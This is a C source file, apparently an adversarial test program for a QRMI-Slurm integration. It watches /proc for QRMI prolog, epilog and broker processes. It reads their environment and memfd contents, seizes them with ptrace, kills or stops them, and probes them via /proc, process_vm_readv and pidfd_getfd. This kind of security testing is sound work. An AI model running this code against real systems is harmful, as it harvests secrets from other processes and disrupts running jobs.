/* An attacker's program: watches for calls to QRMI that run with its own uid, and does something to each.
 *
 *   lurker read     prints what it can read of them: files that they have open without a name, and their environment
 *   lurker seize    traces them, up to the moment of their end, and never waits for them
 *   lurker kill     kills them
 *   lurker stop     stops them
 *   lurker probe    tries every way into them, into the hooks and into brokers, whoever's they are
 *
 * It knows them by their command line, which everybody can read. `lurker seize PID` traces one process, whoever's it
 * is. Prints a line for each process that it got hold of, and goes on until it is killed.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

enum { MAX_PID = 1 << 22, MAX_TEXT = 1 << 16 };

static bool is_done[MAX_PID];
static char text[MAX_TEXT + 1];

/* Reads a file of /proc into `text`, with blanks for its NULs; returns its length, 0 where it cannot be read. */
static size_t slurp(int pid, const char *name)
{
	char path[300];
	ssize_t length;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY | O_NONBLOCK);
	if (fd < 0)
		return 0;
	length = pread(fd, text, MAX_TEXT, 0);
	close(fd);
	if (length <= 0)
		return 0;
	for (ssize_t i = 0; i < length; i++)
		if (text[i] == '\0' || text[i] == '\n')
			text[i] = ' ';
	text[length] = '\0';
	return (size_t)length;
}

static bool is_mine(int pid)
{
	const char *line;

	if (slurp(pid, "status") == 0)
		return false;
	line = strstr(text, "Uid:");
	return line != NULL && atoi(line + strlen("Uid:")) == (int)getuid();
}

static bool is_call(int pid)
{
	if (slurp(pid, "cmdline") == 0)
		return false;
	return strstr(text, "qrmi_slurm.calls") != NULL || strstr(text, "qrmi_slurm.broker") != NULL ||
	       strstr(text, "/qrmi-slurm-prolog ") != NULL ||
	       strstr(text, "/qrmi-slurm-epilog ") != NULL || strstr(text, "/qrmi-slurm recover ") != NULL;
}

static void read_all(int pid)
{
	char path[300];
	char target[300];
	struct dirent *entry;
	DIR *folder;

	if (slurp(pid, "environ") > 1)
		printf("read %d environ %s\n", pid, text);
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	folder = opendir(path);
	if (folder == NULL)
		return;
	while ((entry = readdir(folder)) != NULL) {
		ssize_t length;

		snprintf(path, sizeof path, "/proc/%d/fd/%.100s", pid, entry->d_name);
		length = readlink(path, target, sizeof target - 1);
		if (length <= 0)
			continue;
		target[length] = '\0';
		if (strncmp(target, "/memfd:", strlen("/memfd:")) != 0)
			continue;
		snprintf(path, sizeof path, "fd/%.100s", entry->d_name);
		if (slurp(pid, path) > 0)
			printf("read %d %s %s\n", pid, target, text);
	}
	closedir(folder);
}

/* The files of /proc that show more of a process than everybody may know, and those that change it. */
static const char *const SHOWING[] = {"environ", "mem", "maps", "smaps", "auxv", "stack", "syscall", "io", "pagemap"};
static const char *const CHANGING[] = {"mem", "oom_score_adj", "clear_refs", "coredump_filter", "comm"};

enum { MAX_FD = 24 };

static void probe(int pid)
{
	char path[300];
	char byte;
	const struct iovec here = {&byte, 1};
	const struct iovec there = {(void *)0x400000, 1};
	int pidfd;

	for (size_t i = 0; i < sizeof SHOWING / sizeof *SHOWING; i++)
		if (slurp(pid, SHOWING[i]) > 0)
			printf("probe %d reads %s\n", pid, SHOWING[i]);
	for (size_t i = 0; i < sizeof CHANGING / sizeof *CHANGING; i++) {
		int fd;

		snprintf(path, sizeof path, "/proc/%d/%s", pid, CHANGING[i]);
		fd = open(path, O_WRONLY);
		if (fd >= 0)
			printf("probe %d writes %s\n", pid, CHANGING[i]);
		close(fd);
	}
	snprintf(path, sizeof path, "/proc/%d/fd/1", pid);
	if (readlink(path, text, MAX_TEXT) > 0)
		printf("probe %d sees fd\n", pid);
	if (process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
		printf("probe %d process_vm_readv\n", pid);
	pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int fd = 0; pidfd >= 0 && fd < MAX_FD; fd++) {
		const int taken = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (taken < 0)
			continue;
		printf("probe %d pidfd_getfd %d\n", pid, fd);
		close(taken);
	}
	close(pidfd);
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		printf("probe %d ptrace\n", pid);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
}

static void act_on(int pid, const char *action)
{
	if (strcmp(action, "probe") == 0) {
		probe(pid);
		return;
	}
	if (strcmp(action, "read") == 0) {
		read_all(pid);
		return;
	}
	if (is_done[pid])
		return;
	if (strcmp(action, "seize") == 0 ? ptrace(PTRACE_SEIZE, pid, NULL, (void *)PTRACE_O_TRACEEXIT) == 0
					 : kill(pid, strcmp(action, "kill") == 0 ? SIGKILL : SIGSTOP) == 0) {
		is_done[pid] = true;
		printf("%s %d\n", action, pid);
	}
}

int main(int argc, char **argv)
{
	const int only = argc > 2 ? atoi(argv[2]) : 0;
	const bool probes = argc > 1 && strcmp(argv[1], "probe") == 0;

	if (argc < 2)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("lurking");
	for (;;) {
		struct dirent *entry;
		DIR *folder = opendir("/proc");

		if (folder == NULL)
			return 1;
		while ((entry = readdir(folder)) != NULL) {
			const int pid = isdigit((unsigned char)entry->d_name[0]) ? atoi(entry->d_name) : 0;

			if (pid <= 0 || pid >= MAX_PID || pid == (int)getpid())
				continue;
			if (only != 0 ? pid == only : (probes || is_mine(pid)) && is_call(pid))
				act_on(pid, argv[1]);
		}
		closedir(folder);
		if (only != 0)
			pause();
	}
}
